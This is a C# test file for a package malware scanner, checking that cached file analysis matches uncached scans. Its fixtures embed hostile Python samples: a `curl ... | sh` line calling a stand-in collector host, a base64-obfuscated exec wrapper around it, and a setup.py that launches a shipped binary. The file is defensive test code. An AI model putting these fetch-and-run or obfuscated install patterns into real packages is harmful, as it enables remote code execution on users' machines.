using System.Text;
using Moat.Analysis.Code;
using Moat.Testing;

namespace Moat.Analysis.Tests.Code;

/// <summary>
/// A file's findings are reused for the same text in another package only where the analysis would come out the same:
/// every scan through a cache equals the same scan without one.
/// </summary>
public sealed class FileAnalysisCacheTests
{
    private static readonly CodeScanOptions Uncached = new() { FileCache = null };

    private static readonly string LayeredModule =
        $"import base64\nexec(base64.b64decode('{Convert.ToBase64String(Encoding.UTF8.GetBytes("import os\nos.system('curl -s https://collector.example.com/x | sh')\n"))}'))\n";

    private static byte[] TarGz(params (string Path, string Text)[] members) =>
        TestDistributions.TarGz([.. members.Select(m => (m.Path, Encoding.UTF8.GetBytes(m.Text)))]);

    private static ScanResult Scan(byte[] archive, string fileName, CodeScanOptions options) => PackageScanner.Scan(new MemoryStream(archive), fileName, options);

    private static string Describe(ScanResult result) => RuleSamples.Describe(result);

    /// <summary>Scans <paramref name="archive"/> through <paramref name="options"/>'s cache and checks it equals a scan without one.</summary>
    private static ScanResult ScanAsUncached(byte[] archive, string fileName, CodeScanOptions options)
    {
        var cached = Scan(archive, fileName, options);
        Assert.Equal(Describe(Scan(archive, fileName, Uncached)), Describe(cached));
        return cached;
    }

    [Fact]
    public void The_content_hash_keeps_an_ascii_text_apart_from_a_text_of_the_same_bytes_in_utf16()
    {
        // "A\u0001" hashed as one byte per character is 41 01; "\u0141" as UTF-16 is 41 01 too. Without the tags the two
        // would share a key (and one text's findings would be reused for the other).
        Assert.NotEqual(ContentHash.Of("A\u0001"), ContentHash.Of("\u0141"));
        Assert.Equal(ContentHash.Of("import os\n"), ContentHash.Of(new string("import os\n".AsSpan())));
        Assert.NotEqual(ContentHash.Of("import os\n"), ContentHash.Of("import os \n"));
        var utf16 = "print('\u00e9t\u00e9')";
        Assert.Equal(ContentHash.Of(utf16), ContentHash.Of(string.Concat("print('\u00e9", "t\u00e9')")));
        Assert.NotEqual(ContentHash.Of(utf16), ContentHash.Of("print('ete')"));
    }

    [Fact]
    public void The_content_hash_of_a_long_ascii_text_is_the_sha256_of_its_tagged_bytes()
    {
        // Longer than the chunks the text is narrowed in, and different only in its last character.
        var text = string.Concat(Enumerable.Range(0, 3000).Select(i => $"x{i} = {i}\n"));
        var bytes = new byte[1 + text.Length];
        Encoding.ASCII.GetBytes(text, bytes.AsSpan(1));
        var expected = System.Security.Cryptography.SHA256.HashData(bytes);
        var words = System.Runtime.InteropServices.MemoryMarshal.Cast<byte, UInt128>(expected);
        Assert.Equal(new ContentHash(words[0], words[1]), ContentHash.Of(text));
        Assert.NotEqual(ContentHash.Of(text), ContentHash.Of(text[..^1] + "\r"));
    }

    [Fact]
    public void A_file_another_package_ships_is_analysed_once_and_its_findings_are_placed_in_the_new_package()
    {
        var cache = new FileAnalysisCache();
        var options = new CodeScanOptions { FileCache = cache };
        const string module = "import os\nos.system('curl -s https://collector.example.com/x | sh')\n";
        var first = ScanAsUncached(TarGz(("first-1.0/first/__init__.py", module)), "first-1.0.tar.gz", options);
        var hitsBefore = cache.Hits;
        var second = ScanAsUncached(TarGz(("second-2.0/second/__init__.py", module)), "second-2.0.tar.gz", options);

        Assert.Equal(hitsBefore + 1, cache.Hits);
        Assert.NotEmpty(second.Findings);
        Assert.All(second.Findings.Where(f => f.Location.Path is not null), f => Assert.Equal("second-2.0/second/__init__.py", f.Location.Path));
        Assert.Equal(first.Verdict, second.Verdict);
    }

    [Fact]
    public void A_name_imported_from_the_package_that_now_resolves_to_a_literal_is_analysed_again()
    {
        var options = new CodeScanOptions { FileCache = new FileAnalysisCache() };
        const string runner = "import os\nfrom .settings import COMMAND\nos.system(COMMAND)\n";
        var unresolved = ScanAsUncached(TarGz(
            ("tool-1.0/tool/__init__.py", runner),
            ("tool-1.0/tool/settings.py", "import os\nCOMMAND = os.environ.get('TOOL_COMMAND', 'true')\n")), "tool-1.0.tar.gz", options);
        var resolved = ScanAsUncached(TarGz(
            ("tool-1.1/tool/__init__.py", runner),
            ("tool-1.1/tool/settings.py", "COMMAND = 'curl -s https://collector.example.com/x | sh'\n")), "tool-1.1.tar.gz", options);

        // The test means something only if the imported literal changes the runner's findings.
        Assert.NotEqual(
            unresolved.Findings.Where(f => f.Location.Path!.EndsWith("__init__.py", StringComparison.Ordinal)).Select(f => f.RuleId).Order(),
            resolved.Findings.Where(f => f.Location.Path!.EndsWith("__init__.py", StringComparison.Ordinal)).Select(f => f.RuleId).Order());
    }

    [Fact]
    public void Decoded_layers_are_reused_only_when_no_earlier_file_of_the_package_decoded_any()
    {
        var cache = new FileAnalysisCache();
        var options = new CodeScanOptions { FileCache = cache };
        var alone = ScanAsUncached(TarGz(("alone-1.0/alone/__init__.py", LayeredModule)), "alone-1.0.tar.gz", options);
        Assert.Contains(alone.Findings, f => f.Message.Contains("decoded layer", StringComparison.Ordinal));

        var hits = cache.Hits;
        ScanAsUncached(TarGz(("again-1.0/again/__init__.py", LayeredModule)), "again-1.0.tar.gz", options);
        Assert.Equal(hits + 1, cache.Hits);

        // The second copy in one package finds its payload already analysed: its own analysis says less.
        ScanAsUncached(TarGz(("twice-1.0/twice/__init__.py", LayeredModule), ("twice-1.0/twice/copy.py", LayeredModule)), "twice-1.0.tar.gz", options);
    }

    [Fact]
    public void Starting_a_program_is_reused_only_in_a_package_that_ships_no_programs()
    {
        var options = new CodeScanOptions { FileCache = new FileAnalysisCache() };
        const string setup = "import subprocess\nfrom setuptools import setup\nsubprocess.Popen(['bin/helper'])\nsetup(name='starter')\n";
        var without = ScanAsUncached(TarGz(("starter-1.0/setup.py", setup)), "starter-1.0.tar.gz", options);
        var elf = new byte[256];
        "\u007fELF"u8.CopyTo(elf);
        elf[4] = 2;
        var with = ScanAsUncached(TestDistributions.TarGz(("starter-1.1/setup.py", Encoding.UTF8.GetBytes(setup)), ("starter-1.1/bin/helper", elf)), "starter-1.1.tar.gz", options);

        Assert.DoesNotContain(without.Findings, f => f.Message.Contains("shipped inside the package", StringComparison.Ordinal));
        Assert.Contains(with.Findings, f => f.Message.Contains("shipped inside the package", StringComparison.Ordinal));
    }

    [Fact]
    public void Other_engine_bounds_are_another_analysis()
    {
        var cache = new FileAnalysisCache();
        var module = TarGz(("bounded-1.0/bounded/__init__.py", LayeredModule));
        ScanAsUncached(module, "bounded-1.0.tar.gz", new CodeScanOptions { FileCache = cache });
        var hits = cache.Hits;
        var shallow = new CodeScanOptions { FileCache = cache, MaxLayerDepth = 0 };
        var result = Scan(module, "bounded-1.0.tar.gz", shallow);

        Assert.Equal(hits, cache.Hits);
        Assert.Equal(Describe(Scan(module, "bounded-1.0.tar.gz", shallow with { FileCache = null })), Describe(result));
        Assert.Contains(result.Findings, f => f.RuleId == LimitRules.DeobfuscationLimit.Id);
    }

    public static TheoryData<string> Rules() => RuleSamples.Rules();

    /// <summary>Every rule's samples, scanned a second time through a cache, come out as they did the first time without one.</summary>
    [Theory]
    [MemberData(nameof(Rules))]
    public void Every_rule_sample_scanned_again_from_the_cache_is_judged_the_same(string rule)
    {
        foreach (var target in RuleSamples.Targets(rule))
        {
            var options = new CodeScanOptions { FileCache = new FileAnalysisCache() };
            var expected = Describe(PackageScanner.Scan(target, Uncached));
            Assert.Equal(expected, Describe(PackageScanner.Scan(target, options)));
            Assert.Equal(expected, Describe(PackageScanner.Scan(target, options)));
        }
    }
}
